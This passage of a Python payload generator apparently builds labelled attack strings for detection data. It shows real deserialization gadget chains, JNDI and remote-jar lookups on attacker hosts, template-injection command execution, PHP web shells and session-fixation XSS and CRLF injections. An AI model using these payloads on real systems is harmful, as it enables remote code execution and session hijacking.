    ("org.apache.commons.dbcp.datasources.SharedPoolDataSource", {"dataSourceName": "{jndi}"}),
    ("org.apache.ibatis.datasource.jndi.JndiDataSourceFactory", {"properties": {"data_source": "{jndi}"}}),
    ("com.mchange.v2.c3p0.JndiRefForwardingDataSource", {"jndiName": "{jndi}", "loginTimeout": 0}),
    ("org.springframework.beans.factory.config.PropertyPathFactoryBean", {"targetBeanName": "{jndi}", "propertyPath": "x"}),
    ("org.springframework.context.support.ClassPathXmlApplicationContext", "http://{h}/{f}.xml"),
    ("org.springframework.context.support.FileSystemXmlApplicationContext", "http://{h}/{f}.xml"),
    ("ch.qos.logback.core.db.DriverManagerConnectionSource",
     {"url": "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://{h}/{f}.sql'"}),
    ("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
     {"_bytecodes": ["{bytecode}"], "_name": "{f}", "_tfactory": {}, "_outputProperties": {}}),
    ("org.apache.tomcat.dbcp.dbcp2.BasicDataSource",
     {"driverClassLoader": {"@type": "com.sun.org.apache.bcel.internal.util.ClassLoader"}, "driverClassName": "$$BCEL$${bytecode}"}),
    ("java.net.URL", "http://{oob}/"),
    ("java.net.Inet4Address", {"val": "{oob}"}),
    ("java.net.InetSocketAddress", {"address": "{oob}", "val": 80}),
    ("java.lang.Class", {"val": "com.sun.rowset.JdbcRowSetImpl"}),
    ("javax.swing.JEditorPane", {"page": "http://{oob}/"}),
    ("org.apache.shiro.jndi.JndiObjectFactory", {"resourceName": "{jndi}"}),
    ("org.apache.openjpa.ee.RegistryManagedRuntime", {"registryName": "{jndi}", "rollbackOnly": None}),
    ("oracle.jdbc.connector.OracleManagedConnectionFactory", {"xaDataSourceName": "{jndi}"}),
    ("org.apache.aries.transaction.jms.RecoverablePooledConnectionFactory", {"tmJndiName": "{jndi}", "tmFromJndi": True}),
]
_DOTNET_GADGETS = [
    ("System.Windows.Data.ObjectDataProvider, PresentationFramework",
     {"MethodName": "Start", "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib", "$values": ["cmd", "/c {c}"]},
      "ObjectInstance": {"$type": "System.Diagnostics.Process, System"}}),
    ("System.Configuration.Install.AssemblyInstaller, System.Configuration.Install", {"Path": "file:///\\\\{h}\\share\\x.dll"}),
    ("System.Windows.Forms.BindingSource, System.Windows.Forms", {"DataMember": "x", "dataSource": {"$type": "System.Diagnostics.Process, System"}}),
    ("System.Security.Principal.WindowsIdentity, mscorlib", {"System.Security.ClaimsIdentity.actor": "{b64obj}"}),
]
# Classes an expression, a binder or a class-loading parameter names to run code or reach the file
# system and the network.
_DANGEROUS_CLASSES = _JAVA_EXEC_CLASSES + _CC_TRANSFORMERS + [
    "java.lang.Runtime", "java.lang.ProcessBuilder", "java.lang.ClassLoader", "java.lang.reflect.Method", "java.lang.System",
    "java.lang.Thread", "java.io.File", "java.io.FileOutputStream", "java.io.FileInputStream", "java.io.FileWriter",
    "java.io.ObjectInputStream", "java.io.RandomAccessFile", "java.net.Socket", "java.net.URL", "java.nio.file.Files",
    "java.util.zip.ZipFile", "java.beans.XMLDecoder", "java.rmi.registry.LocateRegistry", "java.security.AccessController",
    "javax.script.ScriptEngine", "javax.management.remote.JMXServiceURL", "javax.naming.Context",
    "javax.xml.transform.TransformerFactory", "sun.misc.Unsafe", "sun.misc.BASE64Decoder", "sun.reflect.misc.MethodUtil",
    "jdk.jshell.JShell", "jdk.nashorn.api.scripting.NashornScriptEngineFactory", "com.sun.jndi.rmi.registry.RegistryContext",
    "com.sun.org.apache.bcel.internal.util.ClassLoader", "org.mozilla.javascript.DefiningClassLoader", "bsh.Interpreter",
    "groovy.lang.GroovyShell", "groovy.util.Eval", "ognl.OgnlContext", "ognl.MemberAccess", "org.apache.struts2.ServletActionContext",
    "com.opensymphony.xwork2.ActionContext", "com.opensymphony.xwork2.ognl.OgnlUtil", "org.apache.catalina.core.StandardContext",
    "org.apache.tomcat.util.IntrospectionUtils", "org.apache.naming.factory.BeanFactory", "org.apache.log4j.net.SocketServer",
    "org.springframework.expression.spel.standard.SpelExpressionParser", "org.springframework.util.ReflectionUtils",
    "org.codehaus.groovy.runtime.ConvertedClosure", "org.hibernate.jmx.StatisticsService", "weblogic.jms.common.StreamMessageImpl",
    "com.caucho.naming.QName", "com.alibaba.fastjson.JSONObject", "org.jboss.interceptor.builder.InterceptionModelBuilder",
]


def _type_props(rng: random.Random, props, jndi: str) -> object:
    """The gadget's properties with its placeholders filled."""
    fill = {"jndi": jndi, "h": _attacker_host(rng), "f": _rs(rng, rng.randint(1, 6)),
            "oob": f"{_rs(rng, 8, 'abcdefghijklmnopqrstuvwxyz0123456789')}.{_evil_domain(rng)}",
            "bytecode": base64.b64encode(b"\xca\xfe\xba\xbe\x00\x00\x004" + bytes(rng.randrange(256) for _ in range(rng.randint(24, 90)))).decode(),
            "b64obj": base64.b64encode(b"\x00\x01\x00\x00\x00\xff\xff\xff\xff" + bytes(rng.randrange(256) for _ in range(40))).decode(),
            "c": rng.choice(["calc", "whoami", "ping " + _public_ip(rng)])}
    if isinstance(props, str):
        return props.format(**fill)
    if isinstance(props, dict):
        return {k: _type_props(rng, v, jndi) for k, v in props.items()}
    if isinstance(props, list):
        return [_type_props(rng, v, jndi) for v in props]
    return props


def _jndi_url(rng: random.Random) -> str:
    h = rng.choice([_attacker_host(rng), f"{_attacker_host(rng)}:{rng.choice([1389, 1099, 389, 8080, 636])}"])
    return f"{rng.choice(['ldap', 'rmi', 'ldaps', 'dns', 'iiop'])}://{h}/{rng.choice(['Exploit', 'a', 'obj', _rs(rng, 6), 'Basic/Command/Base64/aWQ='])}"


def _typed_json(rng: random.Random) -> str:
    cls, props = rng.choice(_TYPE_GADGETS)
    val = _type_props(rng, props, _jndi_url(rng))
    key = rng.choice(["@type", "@type", "@class", "@c", "type", "$type", "class", "@Type"])
    r = rng.random()
    if r < 0.4 and isinstance(val, dict):
        doc: object = {key: cls, **val}
    elif r < 0.6:
        doc = [cls, val]  # Jackson default typing, WRAPPER_ARRAY
    elif r < 0.75 and isinstance(val, dict):
        doc = {rng.choice(["a", "x", "rand1", "b"]): {"@type": "java.lang.Class", "val": cls}, rng.choice(["b", "y", "rand2"]): {"@type": cls, **val}}
    elif r < 0.88:
        doc = {rng.choice(["object", "data", "payload", "value", "config", "source", "item"]): [cls, val] if rng.random() < 0.5 or not isinstance(val, dict) else {key: cls, **val}}
    else:
        cls, props = rng.choice(_DOTNET_GADGETS)
        doc = {"$type": cls, **_type_props(rng, props, _jndi_url(rng))}
    text = json.dumps(doc, separators=rng.choice([(",", ":"), (", ", ": ")]))
    if rng.random() < 0.15:  # Fastjson reads \u and \x escapes in keys and values
        text = text.replace("@type", rng.choice(["\\u0040type", "\\x40type", "@\\u0074ype"]), 1)
    return text


def _snake_yaml(rng: random.Random) -> str:
    url = f"http://{_attacker_host(rng)}/{_rs(rng, rng.randint(1, 6))}.jar"
    return rng.choice([
        f'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["{url}"]]]]',
        f'!!com.sun.rowset.JdbcRowSetImpl {{dataSourceName: "{_jndi_url(rng)}", autoCommit: true}}',
        f'!!org.springframework.context.support.ClassPathXmlApplicationContext ["http://{_attacker_host(rng)}/x.xml"]',
        f'!!java.net.URLClassLoader [[!!java.net.URL ["{url}"]]]',
        f'x: !!org.apache.commons.configuration.ConfigurationMap [!!org.apache.commons.configuration.JNDIConfiguration [!!javax.naming.InitialContext [], "{_jndi_url(rng)}"]]',
    ])


def _code_to_encode(rng: random.Random) -> tuple[str, str]:
    """A payload an application decodes from base64 and then runs or loads, with its class."""
    c = _jcmd(rng)
    q = rng.choice(["'", '"'])
    return rng.choice([
        ("deserialization", _typed_json(rng)),
        ("deserialization", _snake_yaml(rng)),
        ("ssti", f"T(java.lang.Runtime).getRuntime().exec({q}{c}{q})"),
        ("ssti", f"new java.lang.ProcessBuilder({q}{c}{q}).start()"),
        ("ssti", f"java.lang.Runtime.getRuntime().exec({q}{c}{q})"),
        ("ssti", f"#{{''.getClass().forName({q}java.lang.Runtime{q}).getMethod({q}exec{q},''.getClass()).invoke(''.getClass().forName({q}java.lang.Runtime{q}).getRuntime(),{q}{c}{q})}}"),
        ("jndi", "${jndi:" + _jndi_url(rng) + "}"),
        ("cmdi", f"<?php system({q}{c}{q}); ?>"),
        ("cmdi", f"<?php echo shell_exec($_GET[{q}{_rs(rng, 1)}{q}]); ?>"),
        ("cmdi", f"<?php eval(base64_decode($_POST[{q}{_rs(rng, 2)}{q}])); ?>"),
        ("cmdi", f"<?=passthru({q}{c}{q})?>"),
    ])


def gen_java_types(rng: random.Random, n: int) -> list[Payload]:
    """Polymorphic type ids naming gadget classes (Jackson, Fastjson, Json.NET, SnakeYAML), bare
    dangerous class names where an application takes a class (`class=`, `type=`, `handler=`),
    and code an application decodes from base64 before it runs it."""
    def make(rng):
        r = rng.random()
        if r < 0.4:
            return Payload("deserialization", _typed_json(rng), "gen", "deser-typed-json", rng.choice(["any", "any", "cookie"]))
        if r < 0.5:
            return Payload("deserialization", _snake_yaml(rng), "gen", "deser-snakeyaml", "any")
        if r < 0.72:
            cls = rng.choice(_DANGEROUS_CLASSES + [g for g, _ in _TYPE_GADGETS])
            s = rng.choice([cls, cls, cls + rng.choice(["", ".class", "#exec", "::getRuntime", ".getRuntime"]), "L" + cls.replace(".", "/") + ";"])
            return Payload("deserialization", s, "gen", "deser-class-name", rng.choice(["any", "any", "cookie", "header"]))
        label, code = _code_to_encode(rng)
        raw = code.encode()
        s = rng.choice([base64.b64encode(raw).decode(), base64.urlsafe_b64encode(raw).decode().rstrip("="), base64.b64encode(raw).decode().rstrip("=")])
        return Payload(label, s, "gen", f"{label}:base64-code", rng.choice(["any", "any", "cookie", "header"]))
    return _collect(rng, n, make)


# ------------------------------------------------------- 16. session fixation by injected cookies (xss)

_SESSION_COOKIES = ["JSESSIONID", "PHPSESSID", "ASPSESSIONID", "ASP.NET_SessionId", "sessionid", "session_id", "sid", "connect.sid",
                    "laravel_session", "_session_id", "CFID", "CFTOKEN", "jsessionid", "SESSION", "auth_token"]


def gen_session_fixation(rng: random.Random, n: int) -> list[Payload]:
    """Injected markup or script that plants a session cookie the attacker knows: `<meta
    http-equiv="Set-Cookie">`, `document.cookie=` with path/domain/expires, written into any
    reflected value."""
    def make(rng):
        name = rng.choice(_SESSION_COOKIES)
        sid = _rs(rng, rng.choice([16, 24, 32]), "0123456789abcdefABCDEF")
        attrs = "".join(rng.sample([f"; path=/", f"; domain=.{_trusted_domain(rng)}", f"; expires=Fri, 01 Jan 20{rng.randint(30, 99)} 00:00:00 GMT",
                                    f"; max-age={rng.randint(86400, 9999999)}", "; SameSite=None", "; secure"], rng.randint(1, 3)))
        q = rng.choice(['"', "'"])
        r = rng.random()
        if r < 0.4:
            s = rng.choice([f'<meta http-equiv="Set-Cookie" content="{name}={sid}{attrs}">', f"<meta http-equiv=Set-Cookie content={q}{name}={sid}{attrs}{q}>",
                            f'<META HTTP-EQUIV="SET-COOKIE" CONTENT="{name}={sid}{attrs}">', f'"><meta http-equiv="set-cookie" content="{name}={sid}{attrs}"/>'])
            fam = "meta"
        elif r < 0.85:
            js = f"document.cookie={q}{name}={sid}{attrs}{q}"
            s = rng.choice([f"<script>{js}</script>", f"<script>{js};</script>", f"{q};{js};//", f"javascript:{js}",
                            f"<img src=x onerror={q}{js.replace(q, chr(96))}{q}>", f"\"><script>{js}</script>", f"<svg onload={js}>"])
            fam = "document-cookie"
        else:
            s = rng.choice([f"%0d%0aSet-Cookie:%20{name}={sid}{attrs.replace(' ', '%20')}", f"\r\nSet-Cookie: {name}={sid}{attrs}"])
            return Payload("crlf", s, "gen", "crlf:set-cookie", "any")
        if rng.random() < 0.15:
            s = _pct_some(rng, s, " <>\"'=;")
            fam += "-urlenc"
        return Payload("xss", s, "gen", f"xss:session-fixation-{fam}", "any")
    return _collect(rng, n, make)


_BASE = [
    ("shell", gen_shell, 1500), ("windows", gen_windows, 900), ("php", gen_php, 1200), ("java", gen_java, 1400),
    ("prototype_pollution", gen_prototype_pollution, 900), ("node_rce", gen_node_rce, 600), ("js_obfuscation", gen_js_obfuscation, 900),
    ("sql_dialects", gen_sql_dialects, 1500), ("sql_tamper", gen_sql_tamper, 1500), ("lfi", gen_lfi, 1500),
    ("open_redirect", gen_open_redirect, 1500), ("ssi_esi", gen_ssi_esi, 700), ("xss_evasion", gen_xss_evasion, 1200),
    ("ldap_breakout", gen_ldap_breakout, 1500), ("java_objects", gen_java_objects, 900), ("java_types", gen_java_types, 1400),
    ("session_fixation", gen_session_fixation, 500),
]


def gen_all(rng: random.Random, scale: float) -> list[Payload]:
    """All families; about 15,000 distinct payloads at scale 1.0 (each generator gets at least 8)."""
    out, seen = [], set()
    for _, fn, base in _BASE:
        for p in fn(rng, max(8, int(base * scale))):
            key = (p.label, p.text)
            if key not in seen:
                seen.add(key)
                out.append(p)
    return out


def main() -> None:
    scale = float(sys.argv[1]) if len(sys.argv) > 1 else 1.0
    rng = random.Random(1234)
    total = 0
    for name, fn, base in _BASE:
        ps = fn(rng, max(8, int(base * scale)))
        total += len(ps)
        labels = collections.Counter(p.label for p in ps)
        fams = collections.Counter(p.family for p in ps)
        print(f"== {name}: {len(ps)} payloads, labels {dict(labels)}, {len(fams)} families; top: "
              + ", ".join(f"{f} {c}" for f, c in fams.most_common(6)))
        for p in random.Random(name).sample(ps, min(5, len(ps))):
            t = p.text if len(p.text) <= 220 else p.text[:200] + f"...(+{len(p.text) - 200})"
            print(f"   [{p.family} | {p.hint}] {t!r}")
    allp = gen_all(random.Random(1234), scale)
    print(f"== total {total} (gen_all: {len(allp)} distinct); by label:",
          dict(sorted(collections.Counter(p.label for p in allp).items())))


if __name__ == "__main__":
    main()
